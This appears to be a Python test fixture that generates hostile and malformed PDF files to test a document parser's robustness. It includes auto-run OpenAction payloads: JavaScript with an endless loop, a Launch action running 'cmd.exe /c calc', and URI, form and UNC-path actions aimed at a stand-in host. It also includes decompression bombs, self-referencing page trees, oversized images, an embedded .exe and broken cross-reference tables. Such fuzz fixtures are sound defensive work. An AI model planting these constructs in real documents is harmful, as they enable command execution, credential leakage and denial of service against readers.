"""PDF documents that act, loop, lie, grow and hide."""

from __future__ import annotations

import zlib
from functools import partial
from typing import TYPE_CHECKING

from tests.damage.made import Hostile, late, plain
from tests.damage.whole import squeezed, whole

if TYPE_CHECKING:
    from collections.abc import Iterator

ACTIONS = {
    "a script": "<</S/JavaScript/JS(app.alert(1);while(1);)>>",
    "a launch": "<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>",
    "a link it follows": "<</S/URI/URI(http://fernhollow.example/)>>",
    "a form it sends": "<</S/SubmitForm/F(http://fernhollow.example/)>>",
    "a way to another file": "<</S/GoToR/F(\\\\\\\\fernhollow.example\\\\s)/D[0/Fit]>>",
    "an action after itself": "<</S/Named/N/NextPage/Next 9 0 R>>",
}
SHEETS = (
    *("0 0 0 0", "0 0 1e9 1e9", "0 0 14400 14400", "0 0 -50 -50", "a b c d"),
    *("0 0 1e-9 1e-9", "0 0 1 1e6", "99999999999999999999 0 5 5", "0 0"),
)
DRAWN = {
    "a form within itself": "/F Do",
    "10,000 saved states": "q " * 10_000,
    "1,000,000 lines": "0 0 m 9 9 l S " * 1_000_000,
    "1,000,000 letters": "BT /A 9 Tf (a) Tj ET " * 100_000,
    "numbers that are none": "1e999 -1e999 nan inf cm 0 0 99999999 99999999 re f",
    "dashes beyond seeing": "[0.0000001] 0 d 0 0 m 9999999 9999999 l S",
    "an endless text": "BT /A 1e9 Tf (aaaaaaaa) Tj ET",
    "tiles beyond counting": "/Pattern cs /P scn 0 0 9999 9999 re f",
    "an inline picture that never ends": "BI /W 9 /H 9 /BPC 8 /CS /G ID aaaa",
    "words it does not know": "xyz " * 200_000,
}


def made() -> Iterator[Hostile]:
    """Yield them."""
    for name, action in ACTIONS.items():
        yield plain(f"PDF with {name}", "a.pdf", pdf(root="/OpenAction 9 0 R", more={9: action}))
    for sheet in SHEETS:
        yield plain(f"PDF on a sheet of {sheet}", "a.pdf", pdf(sheet=sheet))
    for name, drawn in DRAWN.items():
        yield late(f"PDF that draws {name}", "a.pdf", partial(pdf, drawn=drawn.encode()))
    yield from _trees()
    yield from _streams()
    yield from _others()


def pdf(
    sheet: str = "0 0 300 300",
    root: str = "",
    drawn: bytes = b"0 0 9 9 re f",
    more: dict[int, str | bytes] | None = None,
    kids: str = "3 0 R",
) -> bytes:
    """A document of one page, with whatever else is to be in it."""
    tile = b"<</PatternType 1/PaintType 1/TilingType 1/BBox[0 0 .001 .001]/XStep .001/YStep .001"
    objects: dict[int, bytes] = {
        1: f"<</Type/Catalog/Pages 2 0 R {root}>>".encode(),
        2: f"<</Type/Pages/Count 1/Kids[{kids}]>>".encode(),
        3: f"<</Type/Page/Parent 2 0 R/MediaBox[{sheet}]/Contents 4 0 R/Resources 5 0 R>>".encode(),
        4: _stream(drawn),
        5: b"<</XObject<</F 6 0 R/I 8 0 R>>/Font<</A<</Type/Font/Subtype/Type1"
        b"/BaseFont/Helvetica>>>>"
        b"/Pattern<</P 7 0 R>>>>",
        6: _stream(b"/F Do", "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources 5 0 R"),
        7: _stream(b"0 0 1 1 re f", tile.decode()[2:] + "/Resources<<>>"),
    }
    objects |= {n: o if isinstance(o, bytes) else o.encode() for n, o in (more or {}).items()}
    return _written(objects)


def _stream(body: bytes, about: str = "") -> bytes:
    return f"<<{about}/Length {len(body)}>>stream\n".encode() + body + b"\nendstream"


def _written(objects: dict[int, bytes], trailer: str = "") -> bytes:
    out, starts = b"%PDF-1.7\n", {}
    for number, body in objects.items():
        starts[number] = len(out)
        out += f"{number} 0 obj".encode() + body + b"\nendobj\n"
    table = b"".join(
        f"{number} 1\n{start:010} 00000 n \n".encode() for number, start in starts.items()
    )
    end = f"trailer<</Size {max(objects) + 1}/Root 1 0 R{trailer}>>\nstartxref\n{len(out)}\n%%EOF"
    return out + b"xref\n0 1\n0000000000 65535 f \n" + table + end.encode()


def _trees() -> Iterator[Hostile]:
    yield plain("PDF whose pages hold themselves", "a.pdf", pdf(kids="2 0 R"))
    yield plain(
        "PDF whose pages hold each other",
        "a.pdf",
        pdf(kids="9 0 R", more={9: "<</Type/Pages/Count 9/Kids[2 0 R]>>"}),
    )
    yield late(
        "PDF of 100,000 pages",
        "a.pdf",
        lambda: pdf(kids="3 0 R " * 100_000).replace(b"/Count 1", b"/Count 100000"),
    )
    yield plain(
        "PDF that says 2,000 million pages",
        "a.pdf",
        pdf().replace(b"/Count 1", b"/Count 2147483647"),
    )
    yield plain("PDF of no page", "a.pdf", pdf(kids=""))
    yield late(
        "PDF of 100,000 lists within lists", "a.pdf", lambda: pdf(root="/A " + "[" * 100_000)
    )
    yield late("PDF of 100,000 tables within tables", "a.pdf", lambda: pdf(root="/A<<" * 100_000))
    yield plain("PDF whose root is a number", "a.pdf", pdf(more={1: "7"}))
    yield plain(
        "PDF whose page is itself its parent", "a.pdf", pdf(more={3: "<</Type/Page/Parent 3 0 R>>"})
    )
    chain = {n: f"<</Type/Pages/Count 1/Kids[{n + 1} 0 R]>>" for n in range(9, 3000)}
    yield late(
        "PDF of pages 3,000 deep", "a.pdf", lambda: pdf(kids="9 0 R", more={**chain, 3000: "3 0 R"})
    )


def _streams() -> Iterator[Hostile]:
    yield late("PDF that draws 300 MB", "a.pdf", partial(_drawing_bomb, "/Filter/FlateDecode"))
    yield late(
        "PDF squeezed twice",
        "a.pdf",
        partial(_drawing_bomb, "/Filter[/FlateDecode/FlateDecode]", twice=True),
    )
    yield plain(
        "PDF squeezed 1,000 times",
        "a.pdf",
        pdf(more={4: _stream(b"x", "/Filter[" + "/FlateDecode" * 1000 + "]")}),
    )
    for side in (20_000, 60_000, 2_000_000_000):
        about = f"/Subtype/Image/Width {side}/Height {side}/BitsPerComponent 8"
        about += "/ColorSpace/DeviceRGB/Filter/FlateDecode"
        image = _stream(squeezed(3_000_000), about)
        yield plain(
            f"PDF with a picture {side:,} wide",
            "a.pdf",
            pdf(drawn=b"300 0 0 300 0 0 cm /I Do", more={8: image}),
        )
    for way in (
        "DCTDecode",
        "JPXDecode",
        "JBIG2Decode",
        "CCITTFaxDecode",
        "LZWDecode",
        "RunLengthDecode",
        "Crypt",
        "None",
    ):
        about = "/Subtype/Image/Width 900/Height 900/BitsPerComponent 8/ColorSpace/DeviceGray"
        about += f"/Filter/{way}"
        yield plain(
            f"PDF with a picture of {way}",
            "a.pdf",
            pdf(drawn=b"9 0 0 9 0 0 cm /I Do", more={8: _stream(bytes(range(256)) * 9, about)}),
        )


def _drawing_bomb(about: str, *, twice: bool = False) -> bytes:
    bomb = squeezed(300_000_000, b" ")
    return pdf(more={4: _stream(zlib.compress(bomb) if twice else bomb, about)})


def _others() -> Iterator[Hostile]:
    good = whole("PDF")
    yield plain(
        "PDF with a file within",
        "a.pdf",
        pdf(
            root="/Names<</EmbeddedFiles<</Names[(a)9 0 R]>>>>",
            more={9: "<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>"},
        ),
    )
    yield plain("PDF with a form of XFA", "a.pdf", pdf(root="/AcroForm<</XFA 4 0 R/Fields[]>>"))
    yield plain(
        "PDF whose table leads to itself", "a.pdf", good.replace(b"/Root", b"/Prev 9 /Root")
    )
    yield plain(
        "PDF whose table is outside",
        "a.pdf",
        good[: good.rindex(b"startxref")] + b"startxref\n99999999999\n%%EOF",
    )
    yield plain("PDF without a table", "a.pdf", good[: good.index(b"xref")])
    yield plain("PDF without an end", "a.pdf", good[: good.rindex(b"%%EOF")])
    yield plain("PDF after 1,000 bytes of something else", "a.pdf", b"MZ" + bytes(998) + good)
    yield plain("PDF written over twice", "a.pdf", good + b"\n4 0 obj<<>>endobj\n" + good)
    yield plain(
        "PDF locked in no way",
        "a.pdf",
        _written({1: b"<</Type/Catalog/Pages 1 0 R>>"}, "/Encrypt<</Filter/None>>"),
    )
    key = (
        "/Encrypt<</Filter/Standard/V 2/R 3/Length 128/P -4/O<"
        + "00" * 32
        + ">/U<"
        + "00" * 32
        + ">>>/ID[<00><00>]"
    )
    yield plain(
        "PDF locked with a password",
        "a.pdf",
        _written({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Count 0/Kids[]>>"}, key),
    )
    yield plain("PDF of its first line only", "a.pdf", b"%PDF-1.7\n")
    yield late("PDF of 30 MB of nothing", "a.pdf", lambda: b"%PDF-1.7\n" + b" " * 30_000_000)
    yield late(
        "PDF of 2,000,000 beginnings", "a.pdf", lambda: b"%PDF-1.7\n" + b"1 0 obj\n" * 2_000_000
    )
